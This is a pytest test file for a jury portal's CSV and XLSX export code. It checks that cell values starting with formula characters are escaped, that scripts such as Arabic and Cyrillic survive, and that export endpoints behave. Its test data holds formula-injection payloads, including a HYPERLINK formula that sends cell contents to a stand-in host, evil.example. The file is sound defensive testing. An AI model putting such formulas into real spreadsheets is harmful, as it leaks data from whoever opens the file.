"""Tables that leave the portal: whole, in any script, and never a formula."""

import csv
import io
import zipfile
from typing import Any
from xml.etree import ElementTree

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

from plural import tables
from plural.extensions import db
from plural.models.entry import Entry
from plural.models.people import Membership
from plural.models.rounds import Round
from plural.models.scoring import Score
from tests.factories import Make
from tests.plural.panels import Panel
from tests.visitor import Visitor

SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
# What it takes to make them harmless, by value.
EVIL = {
    "=1+1": "'=1+1",
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    "  =1": "'  =1",
    "＝1": "'＝1",
    "Sea;=1+1;end": "Sea;'=1+1;end",
    'Sea, blue;=HYPERLINK("https://evil.example?"&A1)': (
        'Sea, blue;\'=HYPERLINK("https://evil.example?"&A1)'
    ),
    'Sea;"=1+1"': 'Sea;\'"=1+1"',
    'Sea; "@SUM(A1)': "Sea;' \"@SUM(A1)",
    "Sea\t+1": "Sea\t'+1",
    "Sea\n-1": "Sea\n'-1",
    "Sea\r\n＝1": "Sea\r\n'＝1",
    ";;=1": ";;'=1",
}
HARMLESS = [
    "a; b",
    "3-2=1",
    "a;b=c;d",
    "one\n\ntwo",
    "e-mail me @ home",
    "Sea;1-1",
    "l'été; l'hiver",
]


def read_csv(written: bytes) -> list[list[str]]:
    assert written.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def read_xlsx(written: bytes) -> tuple[list[list[Any]], str]:
    """Cells of the one sheet, and its XML."""
    book = zipfile.ZipFile(io.BytesIO(written))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    found = []
    for row in ElementTree.fromstring(sheet).iter(f"{SPREADSHEET}row"):
        cells: list[Any] = []
        for cell in row.iter(f"{SPREADSHEET}c"):
            if cell.get("t") == "inlineStr":
                cells.append("".join(t.text or "" for t in cell.iter(f"{SPREADSHEET}t")))
            else:
                cells.append(float(cell.findtext(f"{SPREADSHEET}v") or "nan"))
        found.append(cells)
    return found, sheet


def fields(written: bytes, separator: str) -> list[str]:
    """All cells that a spreadsheet finds whose list separator is this one."""
    lines = io.StringIO(written.decode("utf-8-sig"), newline=None)
    return [cell for row in csv.reader(lines, delimiter=separator) for cell in row]


@pytest.mark.parametrize(("text", "harmless"), EVIL.items())
def test_formula_injection_in_csv(text: str, harmless: str) -> None:
    written = b"".join(tables.as_csv([["2026-1.1", text], [text, "end"]]))
    assert read_csv(written) == [["2026-1.1", harmless], [harmless, "end"]]
    for separator in (",", ";", "\t"):
        for cell in fields(written, separator):
            assert not cell.lstrip(" ").startswith(FORMULA), (separator, cell)


@given(
    st.lists(st.lists(st.text(";,\t\n\r\" =-'a", max_size=9), min_size=2, max_size=3), max_size=3)
)
def test_no_text_is_a_formula_whatever_the_list_separator(rows: list[list[str]]) -> None:
    written = b"".join(tables.as_csv(rows))
    for separator in (",", ";", "\t"):
        for cell in fields(written, separator):
            assert not cell.lstrip(" ").startswith(FORMULA), (separator, cell)


@pytest.mark.parametrize("text", HARMLESS)
def test_texts_that_no_spreadsheet_computes_stay_as_they_are(text: str) -> None:
    assert read_csv(b"".join(tables.as_csv([["1", text]]))) == [["1", text]]


@pytest.mark.parametrize("text", [t for t in EVIL if t.strip() == t and "\r" not in t])
def test_formula_injection_in_xlsx(text: str) -> None:
    [[cell]], sheet = read_xlsx(b"".join(tables.as_xlsx([[text]], "Evil")))
    assert cell == text
    assert "<f>" not in sheet


def test_numbers_stay_numbers_and_negative_ones_are_no_formulas() -> None:
    [row] = read_csv(b"".join(tables.as_csv([[-1.5, 3, None, "0012"]])))
    assert row == ["-1.5", "3", "", "0012"]
    [cells], _sheet = read_xlsx(b"".join(tables.as_xlsx([[-1.5, 3, "0012"]], "Numbers")))
    assert cells == [-1.5, 3.0, "0012"]


def test_letters_of_every_script_arrive() -> None:
    words = ["نافذتي", "邻居", "Двор", "Año", "été", "हम"]
    assert read_csv(b"".join(tables.as_csv([words]))) == [words]
    [cells], sheet = read_xlsx(b"".join(tables.as_xlsx([words], "نافذتي", right_to_left=True)))
    assert cells == words
    assert 'rightToLeft="1"' in sheet


def test_rows_leave_in_pieces_before_the_last_is_made() -> None:
    made = 0

    def rows() -> Any:
        nonlocal made
        for _number in range(5000):
            made += 1
            yield ["x" * 100]

    pieces = tables.as_csv(rows())
    next(pieces)
    assert made < 1000


def test_a_sheet_is_named_as_excel_wants_it() -> None:
    assert tables.sheet_name("a/b[c]*'") == "a-b-c--"
    assert len(tables.sheet_name("x" * 50)) == 31
    assert tables.sheet_name("") == "1"


# ----- of rounds


@pytest.fixture
def panel(app: Flask, make: Make) -> Panel:
    panel = Panel(app, make, make.staff())
    panel.add_jurors(2)
    panel.add_films(2)
    return panel


def table(desk: Visitor, round_id: int, name: str) -> Any:
    return desk.get(f"staff/rounds/{round_id}/tables/{name}")


def test_progress_can_be_taken_along_at_any_time_scores_only_after_the_close(
    panel: Panel, sign_in: Any
) -> None:
    round_id = panel.assigned()
    with panel.deed():
        db.session.get_one(Membership, panel.jurors[0][1].id).name = "=HYPERLINK(1)"
    panel.score_all(round_id, lambda _a: 3)
    with panel.deed():
        first = Score.query.order_by(Score.id).first()
        first.comment_for_jury, first.comment_for_maker = "=For us", "For them"
        receipt = first.receipt
    desk: Visitor = sign_in(panel.staff)
    rows = read_csv(table(desk, round_id, "progress.csv").data)
    assert rows[0] == ["Organisation", "Juror", "Address", "Films", "Done"]
    assert {tuple(row[3:]) for row in rows[1:]} == {("2", "2")}
    assert "'=HYPERLINK(1)" in {row[1] for row in rows}
    for name in ("scores.csv", "ranking.xlsx", "other.csv", "progress.pdf"):
        assert table(desk, round_id, name).status_code == 404
    panel.only_close(round_id)
    rows = read_csv(table(desk, round_id, "scores.csv").data)
    assert rows[0] == ["Code", "Title", "Juror", "story", "craft", "Receipt", "For the jury"]
    assert [row[3] for row in rows[1:]] == ["3"] * 4
    assert {row[6] for row in rows[1:] if row[5] != receipt} == {""}
    assert [row[6] for row in rows[1:] if row[5] == receipt] == ["'=For us"]
    assert table(desk, round_id, "nonsense.csv").status_code == 404


def test_the_ranking_leaves_with_titles_in_their_own_letters(panel: Panel, sign_in: Any) -> None:
    with panel.deed():
        first = db.session.get_one(Entry, panel.films[0].entry_id)
        first.title, first.title_english = "نافذتي", "=My window"
    round_id = panel.assigned()
    best = panel.films[0].id
    panel.score_all(round_id, lambda a: 5 if a.film_version_id == best else 2)
    panel.close(round_id)
    desk: Visitor = sign_in(panel.staff)
    rows = read_csv(table(desk, round_id, "ranking.csv").data)
    assert rows[1][1:4] == ["نافذتي", "'=My window", "Category adult"]
    assert [row[6] for row in rows[1:]] == ["1", "2"]
    answer = table(desk, round_id, "ranking.xlsx")
    cells, sheet = read_xlsx(answer.data)
    assert cells[1][1:3] == ["نافذتي", "=My window"]
    assert "<f>" not in sheet
    with panel.app.app_context():
        key = db.session.get_one(Round, round_id).key
    assert f"2026-{key}-ranking.xlsx" in answer.headers["Content-Disposition"]
